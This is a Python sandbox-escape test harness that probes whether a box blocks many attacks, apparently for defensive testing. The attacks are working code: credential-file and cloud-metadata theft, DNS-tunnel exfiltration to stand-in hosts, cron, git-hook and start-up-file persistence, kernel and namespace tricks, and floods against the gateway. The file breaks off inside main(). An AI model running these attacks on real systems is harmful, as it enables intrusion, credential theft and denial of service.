"""Runs inside a box, as a program of its own: tries to get out, and says for each attack what came of it.

Standard library only. Takes one argument, a JSON document of bait (see `bait.py`), and prints one JSON line for each
attack: `{"name", "group", "blocked", "detail"}`. An attack that returns got through; one that raises was blocked.
"""

# ruff: noqa: BLE001, S, SIM115
# mypy: ignore-errors

from __future__ import annotations

import contextlib
import ctypes
import errno
import json
import os
import platform
import resource
import shutil
import signal
import socket
import stat
import struct
import subprocess
import sys
import time

BAIT = {}
LIBC = ctypes.CDLL(None, use_errno=True)
X86 = platform.machine() == "x86_64"
SECONDS = 3.0
ATTACKS = []


class Blocked(Exception):
    """The attack came to nothing; the text says how it looked."""


def attack(group, name):
    """Registers an attack."""

    def register(function):
        ATTACKS.append((group, name, function))
        return function

    return register


def each(group, pattern, items):
    """Registers one attack for each item: name -> arguments."""

    def register(function):
        for name, arguments in items.items():
            values = arguments if isinstance(arguments, tuple) else (arguments,)
            ATTACKS.append((group, pattern.format(name), lambda values=values: function(*values)))
        return function

    return register


def later(group, pattern, find):
    """As `each`, for items that only the bait tells."""

    def register(function):
        ATTACKS.append((group, pattern, lambda: every(function, find())))
        return function

    return register


def every(function, items):
    """Tries all of them; got through where one does."""
    told = []
    for item in items:
        try:
            return f"{item}: {function(item)}"
        except Exception as error:
            told.append(f"{item}: {error}")
    raise Blocked("; ".join(told[:3]) or "nothing there")


def call(number, *arguments):
    """A system call by number. Raises OSError."""
    given = [ctypes.c_long(item) for item in (*arguments, *[0] * (6 - len(arguments)))]
    result = LIBC.syscall(ctypes.c_long(number), *given)
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def in_child(function):
    """A call that may be answered by death."""
    child = os.fork()
    if child == 0:
        try:
            function()
        except BaseException:
            os._exit(1)
        os._exit(0)
    status = os.waitpid(child, 0)[1]
    if status:
        raise Blocked(f"the process ended with {status}")
    return "survived"


def found(what):
    """What was found; raises where there is nothing."""
    if not what:
        raise Blocked("nothing there")
    return what


def read(path, size=200):
    with open(path, "rb") as file:
        return found(file.read(size))


def text(path):
    """A small file's text."""
    with open(path, encoding="utf-8", errors="replace") as file:
        return file.read()


def status():
    """What the kernel says of this process."""
    return dict(line.split(":\t", 1) for line in text("/proc/self/status").splitlines() if ":\t" in line)


def resolver():
    """The box's own name server."""
    return next(line.split()[1] for line in text("/etc/resolv.conf").splitlines() if line.startswith("nameserver"))


def write(path, text="x"):
    with open(path, "w") as file:
        file.write(text)
    return f"wrote {path}"


def append(path, text="x"):
    with open(path, "a") as file:
        file.write(text)
    return f"wrote to {path}"


def run(*argv, **options):
    """A program's output. Raises where it fails or is not there."""
    done = subprocess.run(argv, capture_output=True, timeout=20, **options)
    if done.returncode:
        raise Blocked(done.stderr.decode(errors="replace").strip()[:200] or f"exit {done.returncode}")
    return done.stdout.decode(errors="replace")[:200]


def talk(family, kind, address, send=b"x", size=300):
    """Sends and receives once. Raises where nothing is answered."""
    with socket.socket(family, kind) as connection:
        connection.settimeout(SECONDS)
        connection.connect(address)
        connection.sendall(send)
        return found(connection.recv(size))


def fetch(host, path="/", headers="", port=80, address=None):
    """Status and body of a plain HTTP request. Raises where the gateway answered by itself."""
    request = f"GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n{headers}\r\n".encode()
    with socket.create_connection((address or host, port), timeout=SECONDS) as connection:
        connection.settimeout(SECONDS)
        connection.sendall(request)
        answer = b""
        while piece := connection.recv(4096):
            answer += piece
    head, _, body = answer.partition(b"\r\n\r\n")
    if not head or b"x-comptroller-reason" in head.lower() or b"comptroller" in body.lower():
        raise Blocked(head.split(b"\r\n")[0].decode(errors="replace") or "closed without an answer")
    return answer[:200].decode(errors="replace")


# ---------------------------------------------------------------- sockets


@each(
    "sockets",
    "{} socket",
    {
        "raw ip": (socket.AF_INET, socket.SOCK_RAW, 1),
        "raw ipv6": (socket.AF_INET6, socket.SOCK_RAW, 58),
        "raw tcp": (socket.AF_INET, socket.SOCK_RAW, 255),
        "packet": (17, socket.SOCK_RAW, 3),
        "packet datagram": (17, socket.SOCK_DGRAM, 3),
        "old packet": (socket.AF_INET, 10, 3),
        "vsock": (40, socket.SOCK_STREAM, 0),
        "alg": (38, socket.SOCK_SEQPACKET, 0),
        "bluetooth": (31, socket.SOCK_RAW, 0),
        "xdp": (44, socket.SOCK_RAW, 0),
        "can": (29, socket.SOCK_RAW, 1),
        "tipc": (30, socket.SOCK_RDM, 0),
        "netfilter netlink": (16, socket.SOCK_RAW, 12),
        "audit netlink": (16, socket.SOCK_RAW, 9),
        "uevent netlink": (16, socket.SOCK_RAW, 15),
        "diagnosis netlink": (16, socket.SOCK_RAW, 4),
        "ping": (socket.AF_INET, socket.SOCK_DGRAM, 1),
        "ping ipv6": (socket.AF_INET6, socket.SOCK_DGRAM, 58),
        "sctp": (socket.AF_INET, socket.SOCK_STREAM, 132),
    },
)
def open_socket(family, kind, protocol):
    socket.socket(family, kind, protocol).close()
    return "opened"


@attack("sockets", "change the routes")
def change_routes():
    with socket.socket(16, socket.SOCK_RAW, 0) as link:
        body = struct.pack("=BBBBBBBBI", 2, 0, 0, 0, 255, 3, 254, 2, 0) + struct.pack("=HHI", 8, 4, 1)
        link.send(struct.pack("=IHHII", 16 + len(body), 25, 1 | 4, 1, 0) + body)
        code = struct.unpack("=i", link.recv(4096)[16:20])[0]
    if code:
        raise OSError(-code, os.strerror(-code))
    return "deleted a route"


@attack("sockets", "flush the packet filter")
def flush_filter():
    return run(shutil.which("nft") or "/usr/sbin/nft", "flush", "ruleset")


@attack("sockets", "take the gateway's own port")
def take_port():
    with socket.create_server(("198.18.0.1", 1)):
        return "listening"


@attack("sockets", "take the resolver's own port")
def take_resolver():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as taken:
        taken.bind(("198.18.0.1", 2))
        return "bound"


# ---------------------------------------------------------------- ways to the machine


@attack("machine", "a server on the machine's loopback")
def loopback():
    return talk(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", BAIT["port"]))


@attack("machine", "a server on the machine's IPv6 loopback")
def loopback6():
    return talk(socket.AF_INET6, socket.SOCK_STREAM, ("::1", BAIT["port6"]))


@attack("machine", "the machine's loopback as a mapped address")
def mapped():
    return talk(socket.AF_INET6, socket.SOCK_STREAM, ("::ffff:127.0.0.1", BAIT["port"]))


@attack("machine", "the machine's loopback as 0.0.0.0 and other spellings")
def spelled():
    return every(
        lambda host: talk(socket.AF_INET, socket.SOCK_STREAM, (host, BAIT["port"])),
        ("0.0.0.0", "127.1.2.3", "127.255.255.254"),
    )


@attack("machine", "the machine by its own addresses")
def own_addresses():
    return every(
        lambda host: talk(socket.AF_INET, socket.SOCK_STREAM, (host, BAIT["port_any"])), found(BAIT["addresses"])
    )


@attack("machine", "a datagram to the machine's loopback")
def datagram():
    return talk(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", BAIT["port_udp"]))


@attack("machine", "an abstract unix socket")
def abstract():
    return talk(socket.AF_UNIX, socket.SOCK_STREAM, "\0" + BAIT["abstract"])


@later("machine", "unix sockets of the machine", lambda: BAIT["unix"])
def unix(path):
    return talk(socket.AF_UNIX, socket.SOCK_STREAM, path)


@later("machine", "container and system sockets", lambda: (
    "/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock", "/run/podman/podman.sock",
    "/run/crio/crio.sock", "/run/dbus/system_bus_socket", "/run/systemd/private", "/run/systemd/journal/socket",
    "/run/snapd.socket", "/run/libvirt/libvirt-sock", "/var/run/nscd/socket", "/run/udev/control",
))  # fmt: skip
def system_socket(path):
    return talk(socket.AF_UNIX, socket.SOCK_STREAM, path)


@attack("machine", "another box of the same user")
def other_box():
    other = BAIT["other"]
    return every(
        lambda way: way(),
        (
            lambda: talk(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", other["port"])),
            lambda: talk(socket.AF_UNIX, socket.SOCK_STREAM, "\0" + other["abstract"]),
            lambda: read(other["file"]),
            lambda: read("/dev/shm/" + other["shared"]),
        ),
    )


# ---------------------------------------------------------------- the network


@each(
    "network",
    "a connection to {}",
    {
        "an address (v4)": ("198.51.100.7", 443),
        "an address (v6)": ("2001:db8::7", 443),
        "another port": ("198.51.100.7", 31337),
        "a mapped address": ("::ffff:198.51.100.7", 8443),
        "a private network": ("10.0.0.1", 80),
        "a mail server": ("198.51.100.25", 25),
        "a mining pool": ("198.51.100.9", 3333),
    },
)
def direct(host, port):
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    answer = talk(family, socket.SOCK_STREAM, (host, port), b"GET / HTTP/1.0\r\nHost: x\r\n\r\n")
    if b"comptroller" in answer.lower() or b"400" in answer[:20] or answer[:1] == b"\x15":
        raise Blocked(answer[:80].decode(errors="replace").strip())
    return answer[:80]


@attack("network", "reverse ssh")
def reverse_ssh():
    with socket.create_connection(("198.51.100.22", 22), timeout=SECONDS) as connection:
        connection.settimeout(SECONDS)
        connection.sendall(b"SSH-2.0-OpenSSH_9.9\r\n")
        answer = found(connection.recv(200))
    if not answer.startswith(b"SSH-"):
        raise Blocked(answer[:80].decode(errors="replace"))
    return answer


@attack("network", "without any variable of ours")
def stripped():
    code = "import urllib.request as u; print(u.urlopen('http://198.51.100.7/', timeout=3).status)"
    return run("/usr/bin/env", "-i", sys.executable, "-I", "-c", code)


@each(
    "network",
    "datagrams to {}",
    {"anywhere": ("198.51.100.7", 9999), "a resolver": ("198.51.100.53", 53), "QUIC": ("198.51.100.7", 443)},
)
def udp(host, port):
    answer = talk(
        socket.AF_INET, socket.SOCK_DGRAM, (host, port), b"\x12\x34\1\0\0\1\0\0\0\0\0\0\1x\7example\0\0\x10\0\1"
    )
    if port == 53 and (answer[3] & 15 or answer[6:8] == b"\0\0"):
        raise Blocked(f"code {answer[3] & 15}")
    return answer


@each(
    "network",
    "cloud metadata at {}",
    {
        "169.254.169.254": ("169.254.169.254", "/latest/meta-data/iam/security-credentials/", ""),
        "its token address": ("169.254.169.254", "/latest/api/token", "X-aws-ec2-metadata-token-ttl-seconds: 60\r\n"),
        "fd00:ec2::254": ("fd00:ec2::254", "/latest/meta-data/", ""),
        "the task address": ("169.254.170.2", "/v2/credentials/", ""),
        "metadata.google.internal": ("metadata.google.internal", "/computeMetadata/v1/", "Metadata-Flavor: Google\r\n"),
        "Azure": ("169.254.169.254", "/metadata/instance?api-version=2021-02-01", "Metadata: true\r\n"),
        "Azure's wire server": ("168.63.129.16", "/machine?comp=goalstate", ""),
        "Alibaba": ("100.100.100.200", "/latest/meta-data/", ""),
        "metadata.azure.internal": ("metadata.azure.internal", "/", ""),
    },
)
def metadata(host, path, headers):
    return fetch(host, path, headers)


@attack("network", "the machine's loopback by a name")
def rebound():
    return every(
        lambda host: fetch(host, port=BAIT["port"]),
        ("localtest.me", "127.0.0.1.nip.io", "host.docker.internal", "gateway.docker.internal", BAIT["host"]),
    )


def query(name, kind):
    """The records that are answered, other than an address of the gateway's own. Raises where there are none."""
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    packet = struct.pack("!HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", kind, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
        link.settimeout(SECONDS)
        link.sendto(packet, (resolver(), 53))
        answer = link.recv(4096)
    count = struct.unpack("!H", answer[6:8])[0]
    records = answer[len(packet) :]
    if count == 0 or (count == 1 and len(records) == 16 and records[-4:-2] in (b"\xc6\x12", b"\xc6\x13")):
        raise Blocked(f"code {answer[3] & 15}, nothing but an address of the gateway's own")
    return records


@each("dns", "a tunnel through {} records", {"TXT": 16, "NULL": 10, "MX": 15, "CNAME": 5, "SRV": 33, "ANY": 255})
def tunnel(kind):
    return query("c2VjcmV0.tunnel.example.net", kind)


@attack("dns", "a tunnel through long labels")
def long_labels():
    return query(".".join(["a" * 63] * 3 + ["b" * 40, "example.net"]), 16)


@attack("dns", "a tunnel through many names")
def many_names():
    """The names must reach nobody: what resolves is an address of ours, whatever was asked."""
    for number in range(200):
        with contextlib.suppress(OSError):
            address = socket.gethostbyname(f"x{number:05d}.exfiltrate.example.net")
            if not address.startswith("198.1"):
                return f"a real address: {address}"
    raise Blocked("200 names, none left")


@attack("dns", "a resolver of its own choice over TCP")
def resolver_tcp():
    packet = b"\x12\x34\1\0\0\1\0\0\0\0\0\0\1x\7example\3net\0\0\x10\0\1"
    answer = talk(socket.AF_INET, socket.SOCK_STREAM, ("198.51.100.53", 53), struct.pack("!H", len(packet)) + packet)
    if len(answer) < 6 or answer[5] & 15 or answer[8:10] == b"\0\0":
        raise Blocked("no answer records")
    return answer


# ---------------------------------------------------------------- system calls

NUMBERS = {
    "io_uring": 425,
    "open_tree": 428,
    "move_mount": 429,
    "fsopen": 430,
    "clone3 into a namespace": 435,
    "pidfd_getfd": 438,
    "mount_setattr": 442,
}
NUMBERS |= (
    {"ptrace": 101, "bpf": 321, "keyctl": 250, "add_key": 248, "request_key": 249, "userfaultfd": 323}
    | {"perf_event_open": 298, "mount": 165, "umount": 166, "pivot_root": 155, "setns": 308, "unshare": 272}
    | {"chroot": 161, "process_vm_readv": 310, "process_vm_writev": 311, "open_by_handle_at": 304}
    | {"name_to_handle_at": 303, "kexec_load": 246, "init_module": 175, "finit_module": 313, "reboot": 169}
    | {"swapon": 167, "acct": 163, "quotactl": 179, "iopl": 172, "ioperm": 173, "lookup_dcookie": 212, "syslog": 103}
    | {"settimeofday": 164, "sethostname": 170, "move_pages": 279, "kcmp": 312}
    if X86
    else {"ptrace": 117, "bpf": 280, "keyctl": 219, "add_key": 217, "mount": 40, "umount": 39, "pivot_root": 41}
    | {"setns": 268, "unshare": 97, "userfaultfd": 282, "process_vm_readv": 270, "process_vm_writev": 271}
    | {"open_by_handle_at": 265, "reboot": 142, "init_module": 105, "perf_event_open": 241, "chroot": 51}
)


@each("system calls", "{}", NUMBERS)
def system_call(number):
    return call(number, 0, 0, 0, 0, 0, 0)


@each(
    "system calls",
    "a new {} namespace",
    {"user": 0x10000000, "network": 0x40000000, "mount": 0x20000, "pid": 0x20000000},
)
def new_namespace(flag):
    return call(NUMBERS["unshare"], flag)


@attack("system calls", "clone into a user namespace")
def clone_user():
    return call(56 if X86 else 220, 0x10000000 | signal.SIGCHLD) or os._exit(0)


@attack("system calls", "the x32 table")
def x32():
    if not X86:
        raise Blocked("no such table here")
    return in_child(lambda: call(0x40000000 + 41, 2, 1, 0))


@attack("system calls", "the 32-bit table (int 0x80)")
def int80():
    if not BAIT["int80"]:
        raise Blocked("no such table here")
    return run(BAIT["int80"])


@attack("system calls", "typing into the terminal (TIOCSTI)")
def tiocsti():
    import fcntl

    return fcntl.ioctl(0, 0x5412, b"x")


@attack("system calls", "pasting into the terminal (TIOCLINUX)")
def tioclinux():
    import fcntl

    return fcntl.ioctl(0, 0x541C, b"\x02")


# ---------------------------------------------------------------- privileges


@attack("privileges", "capabilities")
def capabilities():
    lines = status()
    return found([name for name in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb") if int(lines[name], 16)])


@attack("privileges", "gaining some by exec (no_new_privs)")
def new_privileges():
    lines = status()
    if lines.get("NoNewPrivs") == "1" and lines.get("Seccomp") == "2":
        raise Blocked("no_new_privs and a seccomp filter are set")
    return lines.get("NoNewPrivs")


@attack("privileges", "set-user-id programs")
def set_user_id():
    tools = [shutil.which(name) for name in ("su", "sudo", "mount", "newuidmap", "pkexec", "passwd")]
    return every(
        lambda tool: run(tool, "-n", "id") if tool.endswith("sudo") else run(tool, "-c", "id"), filter(None, tools)
    )


@attack("privileges", "a set-user-id file of its own")
def own_set_user_id():
    write("own-program")
    os.chmod("own-program", 0o4755)
    return oct(os.stat("own-program").st_mode)


@attack("privileges", "a file born set-user-id")
def born_set_user_id():
    os.close(os.open("born-program", os.O_CREAT | os.O_WRONLY, 0o6755))
    mode = os.stat("born-program").st_mode
    if not mode & (stat.S_ISUID | stat.S_ISGID):
        raise Blocked("the bits were taken off")
    return oct(mode)


@attack("privileges", "becoming root")
def become_root():
    os.setresuid(0, 0, 0) if os.getuid() else os.setresuid(12345, 12345, 12345)
    return f"uid {os.getuid()}"


@attack("privileges", "the own user map")
def user_map():
    return every(lambda pair: write(*pair), (("/proc/self/uid_map", "0 0 1"), ("/proc/self/setgroups", "allow")))


@attack("privileges", "a device of its own")
def make_device():
    os.mknod("disk", 0o60600, os.makedev(254, 0))
    return read("disk", 1)


@attack("privileges", "mounting")
def remount():
    return every(
        lambda argv: run("mount", *argv),
        (
            ("-o", "remount,rw", "/usr"),
            ("-t", "proc", "proc", "/tmp"),
            ("--bind", "/", "/tmp"),
            ("-t", "tmpfs", "x", "/tmp"),
        ),
    )


@attack("privileges", "renaming the machine")
def rename_machine():
    if LIBC.sethostname(b"evil", 4):
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return socket.gethostname()


@attack("privileges", "core dumps")
def core_dumps():
    try:
        resource.setrlimit(resource.RLIMIT_CORE, (1 << 20, 1 << 20))
    except (ValueError, OSError) as error:
        raise Blocked(str(error)) from error
    return "allowed"


# ---------------------------------------------------------------- other processes


@attack("processes", "ending process 1")
def kill_first():
    os.kill(1, signal.SIGKILL)
    time.sleep(0.05)
    os.kill(1, 0)
    raise Blocked("it lives on")


@attack("processes", "signals to the server")
def signal_server():
    pids = [BAIT["server_pid"], BAIT["outside_pid"]]
    alive = [
        pid
        for pid in pids
        if pid and os.path.exists(f"/proc/{pid}/cmdline") and b"comptroller" in read(f"/proc/{pid}/cmdline")
    ]
    for pid in found(alive):
        os.kill(pid, 0)
    return alive


@attack("processes", "processes of the machine")
def machine_processes():
    return found([pid for pid in os.listdir("/proc") if pid.isdigit() and int(pid) > 4000])


@each("processes", "process 1's {}", {n: n for n in ("mem", "environ", "root", "fd", "cwd", "exe", "maps", "auxv")})
def first_process(name):
    path = f"/proc/1/{name}"
    if name == "root":
        return os.listdir(path)
    if name == "fd":
        return [os.readlink(f"{path}/{number}") for number in found(os.listdir(path))]
    if name in ("cwd", "exe"):
        return os.readlink(path)
    if name == "mem":
        with open(path, "r+b") as file:
            return file.seek(4096)
    return read(path, 1)


@attack("processes", "process 1's namespaces")
def first_namespaces():
    handle = os.open("/proc/1/ns/net", os.O_RDONLY)
    return call(NUMBERS["setns"], handle, 0)


@attack("processes", "tracing process 1")
def trace_first():
    return call(NUMBERS["ptrace"], 16, 1, 0, 0)


@attack("processes", "inherited descriptors")
def descriptors():
    open_here = []
    for number in os.listdir("/proc/self/fd"):
        with contextlib.suppress(OSError):
            target = os.readlink(f"/proc/self/fd/{number}")
            if int(number) > 2 and not target.startswith(("/proc/", BAIT["workspace"])):
                open_here.append(f"{number} -> {target}")
    return found(open_here)


# ---------------------------------------------------------------- the machine's files


@later("files", "the state, keys and sockets of comptroller", lambda: BAIT["state"])
def see_state(path):
    return os.listdir(path) if os.path.isdir(path) else read(path)


@later("files", "the person's home", lambda: BAIT["home"])
def see_home(path):
    return found(os.listdir(path)) if os.path.isdir(path) else read(path)


@later("files", "credentials where programs look for them", lambda: [
    os.path.expanduser(f"~/{name}")
    for name in (".ssh/id_rsa", ".ssh/id_ed25519", ".netrc", ".git-credentials", ".docker/config.json", ".kube/config",
                 ".config/gcloud/credentials.db", ".azure/msal_token_cache.json", ".npmrc", ".pypirc", ".gnupg",
                 ".config/gh/hosts.yml", ".local/share/keyrings", ".config/google-chrome", ".mozilla", ".vault-token")
])  # fmt: skip
def see_credentials(path):
    return os.listdir(path) if os.path.isdir(path) else read(path)


@later("files", "the machine's own secrets", lambda: (
    "/etc/shadow", "/etc/gshadow", "/etc/sudoers", "/etc/ssh", "/etc/ssl/private", "/etc/krb5.keytab", "/var/lib",
    "/var/log", "/var/spool", "/root", "/boot", "/sys", "/proc/kcore", "/proc/kmsg", "/proc/keys", "/run/secrets",
    "/run/user",
    "/var/run/secrets/kubernetes.io/serviceaccount/token", "/proc/kallsyms", "/srv", "/opt", "/mnt",
))  # fmt: skip
def see_secret(path):
    if not os.path.isdir(path):
        return read(path, 1)
    if path == "/sys" or any(path == str(part) for part in BAIT["shown"]):
        raise Blocked("empty or shown on purpose") if not os.listdir(path) else Blocked("shown on purpose")
    names = [name for name in os.listdir(path) if not any(str(p).startswith(f"{path}/{name}") for p in BAIT["shown"])]
    return found(names)


@later("files", "secrets in the environment", lambda: (os.environ.items(),))
def environment(items):
    return found([name for name, value in items if any(canary in value for canary in BAIT["canaries"])])


@later("files", "agents and keyrings", lambda: (
    *(os.environ.get(name, "") for name in ("SSH_AUTH_SOCK", "GPG_AGENT_INFO", "DBUS_SESSION_BUS_ADDRESS")),
    *(f"/run/user/{os.getuid()}/{name}" for name in ("bus", "gnupg/S.gpg-agent", "keyring/ssh", "wayland-0")),
    BAIT["ssh_agent"], "/tmp/.X11-unix/X0",
))  # fmt: skip
def agents(path):
    return talk(socket.AF_UNIX, socket.SOCK_STREAM, found(path))


@later("files", "writing outside the workspace", lambda: (
    "/usr/bin/x", "/usr/local/bin/x", "/etc/x", "/x", "/dev/x", "/bin/sh", "/lib/x", "/var/x", "/home/x", "/opt/x",
    "/etc/comptroller/bundle.pem", "/etc/ssl/certs/x",
))  # fmt: skip
def write_outside(path):
    return append(path, "")


@later("files", "writing to /etc", lambda: (
    "/etc/passwd", "/etc/hosts", "/etc/resolv.conf", "/etc/nsswitch.conf", "/etc/ld.so.preload", "/etc/profile",
    "/etc/ssl/certs/ca-certificates.crt", "/etc/gitconfig", "/etc/environment", "/etc/cron.d/x", "/etc/crontab",
))  # fmt: skip
def write_etc(path):
    return append(path, "")


@later("files", "switches of the kernel", lambda: (
    "/proc/sys/kernel/core_pattern", "/proc/sys/vm/drop_caches", "/proc/sysrq-trigger", "/proc/sys/net/ipv4/ip_forward",
    "/proc/irq/default_smp_affinity", "/proc/sys/kernel/modprobe", "/proc/mtrr", "/proc/acpi/wakeup",
    "/proc/self/oom_score_adj_parent", "/sys/kernel/uevent_helper", "/sys/fs/cgroup/cgroup.procs",
))  # fmt: skip
def switch(path):
    return append(path, "")


@attack("files", "the cgroup above")
def cgroup():
    return every(
        lambda path: append(path, "0"),
        ("/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/memory.max", "/sys/fs/cgroup/release_agent"),
    )


@attack("files", "devices and GPUs")
def devices():
    usual = {
        "null",
        "zero",
        "full",
        "random",
        "urandom",
        "tty",
        "pts",
        "ptmx",
        "shm",
        "fd",
        "core",
        "stdin",
        "stdout",
        "stderr",
        "console",
    }
    return found(sorted(set(os.listdir("/dev")) - usual))


@attack("files", "names of the machine's folders in the list of mounts")
def mounts():
    seen = text("/proc/self/mountinfo")
    return found([word for word in (*BAIT["state"], *BAIT["canaries"]) if word in seen])


@attack("files", "names of the machine in process 1's command line")
def command_line():
    seen = text("/proc/1/cmdline")
    return found([word for word in (*BAIT["state"], *BAIT["canaries"]) if word in seen])


@attack("files", "the machine's name")
def machine_name():
    seen = socket.gethostname() + text("/etc/hosts") + text("/etc/machine-id")
    return found([word for word in (BAIT["host"], BAIT["machine_id"]) if word and word in seen])


# ---------------------------------------------------------------- what is trusted or run later outside


def protected():
    return [name for name in BAIT["protected"] if os.path.lexists(name)]


def protected_files():
    return [name for name in protected() if os.path.isfile(name)]


@later("later", "changing a protected file", protected)
def change(path):
    target = os.path.join(path, "planted") if os.path.isdir(path) else path
    return append(target, "planted")


@later("later", "removing a protected path", protected)
def remove(path):
    shutil.rmtree(path) if os.path.isdir(path) and not os.path.islink(path) else os.remove(path)
    return "removed"


@later("later", "renaming over a protected path", protected)
def rename_over(path):
    folder = os.path.isdir(path)
    os.makedirs("planted-folder", exist_ok=True) if folder else write("planted-file", "planted")
    os.replace("planted-folder" if folder else "planted-file", path)
    return "replaced"


@later("later", "moving a protected path away and copying it back", protected)
def copy_around(path):
    os.rename(path, path.rstrip("/") + "-away")
    return "moved"


@later("later", "moving away what lies above a protected path", lambda: BAIT["ancestors"])
def move_ancestor(path):
    os.rename(path, path.rstrip("/") + "-away")
    shutil.copytree(path.rstrip("/") + "-away", path, symlinks=True)
    return "moved"


@later("later", "a symbolic link in place of a protected path", protected)
def link_over(path):
    os.symlink("planted-folder", path + "-link")
    os.replace(path + "-link", path)
    return "linked"


@later("later", "a hard link to a protected file", protected_files)
def hard_link(path):
    os.link(path, "planted-hard-link")
    return append("planted-hard-link", "planted")


@later(
    "later", "opening a protected file for writing through /proc", lambda: [p for p in protected() if os.path.isfile(p)]
)
def through_proc(path):
    handle = os.open(path, os.O_RDONLY)
    try:
        return append(f"/proc/self/fd/{handle}", "planted")
    finally:
        os.close(handle)


@later(
    "later",
    "changing the mode, owner or times of a protected file",
    lambda: [p for p in protected() if os.path.isfile(p)],
)
def change_mode(path):
    os.chmod(path, 0o777)
    return oct(os.stat(path).st_mode)


@attack("later", "git hooks by git itself")
def git_hook():
    """`git config core.hooksPath` and an own template: both write what is protected."""
    git = found(shutil.which("git"))
    return every(
        lambda argv: run(git, *argv),
        (
            ("config", "core.hooksPath", "planted-folder"),
            ("config", "core.fsmonitor", "planted-file"),
            ("config", "alias.status", "!planted"),
            ("config", "--global", "--file", ".git/config", "core.pager", "planted"),
        ),
    )


@attack("later", "git's folder by another name")
def commondir():
    return every(lambda path: write(path, "planted"), (".git/commondir", ".git/hooks/post-commit"))


@later("later", "scheduled jobs", lambda: (
    "/var/spool/cron/crontabs/x", "/etc/cron.d/x", "/etc/cron.daily/x", "/var/spool/at/x",
    "/etc/systemd/system/x.service", "/usr/lib/systemd/system/x.service", "/etc/init.d/x", "/etc/rc.local",
    "/etc/profile.d/x.sh",
))  # fmt: skip
def schedule(path):
    return write(path, "planted")


@attack("later", "the person's own start-up files")
def startup_files():
    """A private home may be written; the person's own must not be. What is planted is looked for outside."""
    for name in BAIT["startup"]:
        with contextlib.suppress(OSError):
            path = os.path.join(BAIT["person_home"], name)
            os.makedirs(os.path.dirname(path), exist_ok=True)
            append(path, BAIT["planted"])
    for name in BAIT["startup"]:
        path = os.path.expanduser(f"~/{name}")
        with contextlib.suppress(OSError):
            os.makedirs(os.path.dirname(path), exist_ok=True)
            append(path, BAIT["planted"])
    raise Blocked("looked for outside")


@attack("later", "the interpreter that comptroller runs from")
def interpreter():
    return every(
        lambda path: append(path, ""),
        [path for path in BAIT["interpreter"] if os.path.lexists(path) or os.path.isdir(os.path.dirname(path))],
    )


@attack("later", "leaving a process behind")
def left_behind():
    """A process that outlives the command and its session: it is looked for outside after the box has ended."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for number in (0, 1, 2):
                with contextlib.suppress(OSError):
                    os.close(number)
            os.execv("/bin/sleep", [BAIT["planted"], "987"])
        os._exit(0)
    raise Blocked("looked for outside")


# ---------------------------------------------------------------- wearing the server out


def allowed():
    """Seconds that a request takes which the gateway answers for the asking."""
    started = time.monotonic()
    with socket.create_connection(("comptroller.internal", 80), timeout=30) as connection:
        connection.settimeout(30)
        connection.sendall(b"GET /budget HTTP/1.1\r\nHost: comptroller.internal\r\nConnection: close\r\n\r\n")
        answer = connection.recv(200)
    if not answer.startswith(b"HTTP/1.1"):
        raise RuntimeError("the gateway does not answer")
    return time.monotonic() - started


def worn(function):
    """Got through where the gateway no longer answers this box after `function` has worn it out; whether it answered
    another box all the while is seen from outside."""
    kept = []
    with contextlib.suppress(OSError):
        function(kept)
    for link in kept:
        link.close()
    try:
        seconds = allowed()
    except Exception as error:
        return f"the gateway no longer answers: {error}"
    if seconds > BAIT["patience"]:
        return f"an answer took {seconds:.1f} s"
    raise Blocked(f"still answered after {seconds * 1000:.0f} ms")


@attack("starvation", "a flood of connections")
def connections():
    def flood(kept):
        for _ in range(1500):
            kept.append(socket.create_connection(("198.51.100.7", 443), timeout=1))

    return worn(flood)


@attack("starvation", "half-sent requests")
def half_sent():
    def flood(kept):
        for _ in range(300):
            kept.append(socket.create_connection(("198.51.100.7", 80), timeout=2))
            kept[-1].sendall(b"POST / HTTP/1.1\r\nHost: x.example\r\nContent-Length: 1000000\r\n\r\nx")

    return worn(flood)


@attack("starvation", "huge heads")
def huge():
    def flood(_):
        for _ in range(20):
            with socket.create_connection(("198.51.100.7", 80), timeout=3) as link, contextlib.suppress(OSError):
                link.settimeout(2)
                link.sendall(b"GET / HTTP/1.1\r\nHost: x.example\r\nX: " + b"a" * (1 << 20))

    return worn(flood)


@attack("starvation", "a flood of names")
def names():
    def flood(_):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
            link.connect((resolver(), 53))
            for number in range(3000):
                name = f"{number:06d}".encode()
                link.send(b"\x12\x34\1\0\0\1\0\0\0\0\0\0\6" + name + b"\7example\3net\0\0\1\0\1")

    return worn(flood)


@attack("starvation", "memory and processor of the server")
def expensive():
    body = b"[" * 20000 + b"]" * 20000
    head = b"POST / HTTP/1.1\r\nHost: x.example\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n"

    def flood(_):
        for _ in range(30):
            with socket.create_connection(("198.51.100.7", 80), timeout=3) as link, contextlib.suppress(OSError):
                link.settimeout(2)
                link.sendall(head % len(body) + body)
                link.recv(100)

    return worn(flood)


@later("starvation", "descriptors handed to the server", lambda: [p for p in BAIT["unix"] if p.endswith(".sock")])
def hand_over(path):
    """Descriptors can only be sent over unix sockets, of which none leads out."""
    return talk(socket.AF_UNIX, socket.SOCK_STREAM, path)


def main() -> None:
    """Try everything, in order, one line each."""
    BAIT.update(json.loads(sys.argv[1]))
    os.chdir(BAIT["workspace"])
    only = BAIT.get("only") or ()
    for group, name, function in ATTACKS:
        if only and name not in only and group not in only:
            continue
        try:
            detail, blocked = f"got through: {function()!r}"[:300], False
        except BaseException as error:
